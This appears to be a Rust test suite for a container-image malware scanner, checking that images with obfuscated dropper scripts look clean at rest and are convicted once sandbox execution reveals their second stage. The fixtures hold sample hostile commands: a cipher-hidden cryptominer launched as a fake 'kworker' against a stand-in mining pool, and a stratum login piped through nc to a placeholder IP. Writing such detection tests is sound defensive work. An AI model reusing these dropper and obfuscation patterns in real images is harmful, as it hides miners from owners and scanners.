//! What a run brings is read as the image is: a dropper that is clean at rest is convicted by its second stage.

use crate::detonate::{DETONATE, can_run};
use crate::room::Room;
use serde_json::Value;
use test_support::{Image, ImageBuilder, LayerBuilder, sha256_hex};

/// A shell with its tools, out of the machine's own; none where it has none.
fn shell() -> Option<LayerBuilder> {
    let Ok(busybox) = std::fs::read("/bin/busybox") else {
        assert!(std::env::var_os("CI").is_none(), "CI runs droppers, and /bin/busybox is missing");
        eprintln!("SKIPPED: /bin/busybox is missing, so that no dropper was run");
        return None;
    };
    let layer = LayerBuilder::new().dir("bin", 0o755).file("bin/busybox", 0o755, busybox);
    let tools =
        ["sh", "cat", "tr", "cut", "chmod", "mkdir", "sleep", "wget", "nc", "printf", "true", "test", "echo"];
    let layer = tools.iter().fold(layer, |layer, tool| layer.symlink(format!("bin/{tool}"), "busybox"));
    Some(layer.dir("tmp", 0o1777).dir("var", 0o755).dir("var/cache", 0o755).dir("srv", 0o755))
}

/// An image whose start is this script; the table is made so that the script can take `stage` out of it.
fn dropper(script: &str, stage: &str) -> Option<Image> {
    let turned: String = stage.chars().map(turn).collect();
    let table: String =
        turned.lines().enumerate().map(|(number, line)| format!("{number:06},{line}\n")).collect();
    let layer = shell()?.file("srv/start.sh", 0o755, format!("#!/bin/sh\n{script}\n")).file(
        "srv/table.csv",
        0o644,
        table,
    );
    Some(ImageBuilder::new().config(|config| config.entrypoint(&["/srv/start.sh"])).layer(layer).build())
}

/// A code that takes a letter and gives one, so that no word of the stage stands in the image.
fn turn(letter: char) -> char {
    const FROM: &str = "abcdefghijklmnopqrstuvwxyz/:+.| ";
    const TO: &str = "qazwsxedcrfvtgbyhnujmikolp|. /+:";
    FROM.find(letter).and_then(|at| TO[at..].chars().next()).unwrap_or(letter)
}

const UNTURN: &str =
    "cut -c 8- /srv/table.csv | tr 'qazwsxedcrfvtgbyhnujmikolp|. /+:' 'abcdefghijklmnopqrstuvwxyz/:+.| '";

/// A miner's command that this machine never comes to: what the script does is nothing, what it is convicts.
fn stage_that_waits() -> String {
    let wallet = format!("4{}", "8AbCdEfGhJkLmNpQrStUvWxYz".repeat(4).chars().take(94).collect::<String>());
    format!(
        "#!/bin/sh\nif test -e /sys/devices/never/there\nthen /usr/lib/kworker -o stratum+tcp://xmr.pool.example:3333 \
         -u {wallet} -a rx/0 --donate-level 1\nfi\n"
    )
}

fn findings<'r>(report: &'r Value, id: &'r str) -> Vec<&'r Value> {
    report["findings"].as_array().unwrap().iter().filter(|finding| finding["id"] == id).collect()
}

/// Findings in what the runs brought.
fn captured(report: &Value) -> Vec<&Value> {
    let has_origin = |finding: &&Value| {
        finding["evidence"].as_array().unwrap().iter().any(|piece| piece["kind"] == "captured")
    };
    report["findings"].as_array().unwrap().iter().filter(has_origin).collect()
}

/// That an image is clean at rest, and convicted by a stage of this content when it runs.
fn check_dropper(room: &Room, name: &str, image: &Image, stage: &str, told: &str) {
    let layout = room.layout(name, image);
    let at_rest = room.run(&["scan", "--quiet", "--no-cache", "--format", "json", &layout]).json();
    assert_eq!(at_rest["verdict"], "clean", "{name}: {at_rest}");
    let ran = room.run(&["scan", "--detonate", "--quiet", "--no-cache", "--format", "json", &layout]);
    let report = ran.json();
    assert_eq!((ran.code, &report["verdict"]), (1, &"malicious".into()), "{name}: {report}");
    let digest = format!("sha256:{}", sha256_hex(stage.as_bytes()));
    let convicts = captured(&report);
    let convicts: Vec<_> = convicts.iter().filter(|finding| finding["role"] == "convicts").collect();
    assert!(!convicts.is_empty(), "{name}: {report}");
    for finding in &convicts {
        assert_eq!((&finding["content"], &finding["stage"]), (&digest.as_str().into(), &"static".into()));
        assert!(finding["evidence"].to_string().contains(told), "{name}: {finding}");
    }
    let recurse = findings(&report, "D-DLX-RECURSE");
    assert!(recurse.iter().any(|finding| finding["content"] == digest.as_str()), "{name}: {report}");
    let chain = report["chain"].to_string();
    assert!(chain.contains("/srv/start.sh") && chain.contains(&digest), "{name}: {chain}");
    // The chain ends with what the stage is.
    let end = &report["chain"].as_array().unwrap().last().unwrap()["finding"];
    assert!(convicts.iter().any(|finding| finding["id"] == *end), "{name}: {chain}");
}

#[test]
fn a_dropper_that_is_clean_at_rest_is_convicted_by_its_second_stage() {
    let room = Room::new();
    if !can_run(&room) {
        return;
    }
    let stage = stage_that_waits();
    let as_file = format!("{UNTURN} > /var/cache/update\nchmod 755 /var/cache/update\n/var/cache/update");
    let through_pipe = format!("{UNTURN} | sh");
    let as_word = format!("text=\"$({UNTURN})\"\nsh -c \"$text\"");
    // A word of a command line has no last end of line.
    let word = stage.trim_end().to_owned();
    for (name, script, stage, told) in [
        ("file", &as_file, &stage, "was written by"),
        ("pipe", &through_pipe, &stage, "a text in no file was given to"),
        ("word", &as_word, &word, "a text in no file was given to `sh -c "),
    ] {
        let Some(image) = dropper(script, &stage_that_waits()) else { return };
        check_dropper(&room, name, &image, stage, told);
    }
}

#[test]
fn what_is_written_and_not_run_is_run_in_its_turn() {
    let room = Room::new();
    if !can_run(&room) {
        return;
    }
    let wallet = format!("4{}", "7".repeat(94));
    let stage = format!(
        "#!/bin/sh\nname=method word=login\nprintf '{{\"id\":1,\"jsonrpc\":\"2.0\",\"%s\":\"%s\",\"params\":{{\"%s\":\
         \"{wallet}\",\"pass\":\"x\",\"agent\":\"a/1\"}}}}\\n' $name $word $word | nc 203.0.113.77 3333\n"
    );
    let script = format!("{UNTURN} > /var/cache/next\nchmod 755 /var/cache/next");
    let Some(image) = dropper(&script, &stage) else { return };
    let report = room.run(&[&DETONATE[..], &[&room.layout("left", &image)]].concat()).json();
    let runs = report["detonation"]["runs"].as_array().unwrap();
    assert!(runs.iter().any(|run| run["name"] == "stage 2: /var/cache/next"), "{report}");
    let logins = findings(&report, "D-MIN-STRATUM");
    assert!(logins.iter().any(|login| login["evidence"].to_string().contains("stage 2: ")), "{report}");
}

/// An honest near-miss: it fetches an installer and runs it, keeps what it fetched, and writes programs of its own.
#[test]
fn a_service_that_fetches_and_runs_an_installer_is_not_convicted() {
    let room = Room::new();
    if !can_run(&room) {
        return;
    }
    let script = "mkdir -p /var/cache/tool\n\
         wget -q -O /var/cache/tool/install.sh http://get.tool.example/install.sh\n\
         sh /var/cache/tool/install.sh\n\
         sh -c 'echo installed'\n\
         echo 'echo ready' | sh\n\
         printf '#!/bin/sh\\nexec sleep 5\\n' > /var/cache/tool/service\n\
         chmod 755 /var/cache/tool/service";
    let Some(image) = dropper(script, "a,b\n1,2\n") else { return };
    let kept = room.path("kept");
    let words = ["--keep", kept.to_str().unwrap(), &room.layout("service", &image)];
    let ran = room.run(&[&DETONATE[..], &words].concat());
    let report = ran.json();
    let counted = captured(&report).into_iter().filter(|finding| finding["role"] != "context").count();
    assert_eq!((counted, findings(&report, "D-DLX-RECURSE").len()), (0, 0), "{report}");
    assert_eq!(report["verdict"], "clean", "{report}");
    // It was fetched, and is among what was kept.
    let fetched = report["detonation"]["network"].to_string();
    assert!(fetched.contains("get.tool.example") && fetched.contains("/install.sh"), "{fetched}");
    let service = sha256_hex(b"#!/bin/sh\nexec sleep 5\n");
    assert!(kept.join("captured").join(service).is_file());
}

#[test]
fn runs_that_are_judged_again_keep_what_was_found_in_what_they_brought() {
    let room = Room::new();
    if !can_run(&room) {
        return;
    }
    let stage = stage_that_waits();
    let script = format!("{UNTURN} > /var/cache/update\nchmod 755 /var/cache/update\n/var/cache/update");
    let Some(image) = dropper(&script, &stage) else { return };
    let layout = room.layout("dropper", &image);
    let kept = room.path("kept");
    let kept = kept.to_str().unwrap();
    let mut ran = room.run(&[&DETONATE[..], &["--keep", kept, &layout]].concat()).json();
    let mut again = room.run(&[&DETONATE[..], &["--replay", kept]].concat()).json();
    ran["timing_ms"].take();
    again["timing_ms"].take();
    assert_eq!(ran["verdict"], "malicious");
    assert_eq!(ran, again);
    assert!(std::path::Path::new(kept).join("captured").join(sha256_hex(stage.as_bytes())).is_file());
    // A person who accepts all that convicts is heard here as well.
    let mut exceptions = String::new();
    for finding in ran["findings"].as_array().unwrap() {
        if finding["role"] == "context" {
            continue;
        }
        let content = finding["content"].as_str().and_then(|content| content.strip_prefix("sha256:"));
        exceptions += &format!(
            "[[exception]]\nfinding = {}\nsha256 = \"{}\"\nreason = \"it is ours\"\nauthor = \"ops\"\n\
             expires = 2999-12-31\n",
            finding["id"],
            content.unwrap_or_else(|| panic!("{finding}"))
        );
    }
    let accepted = room.write("accepted.toml", exceptions);
    let accepted = accepted.to_str().unwrap();
    let excused = room.run(&[&DETONATE[..], &["--replay", kept, "--exceptions", accepted]].concat());
    assert_eq!((excused.code, excused.err.as_str()), (0, ""), "{excused:?}");
    assert!(!excused.json()["exceptions"].as_array().unwrap().is_empty(), "{excused:?}");
}
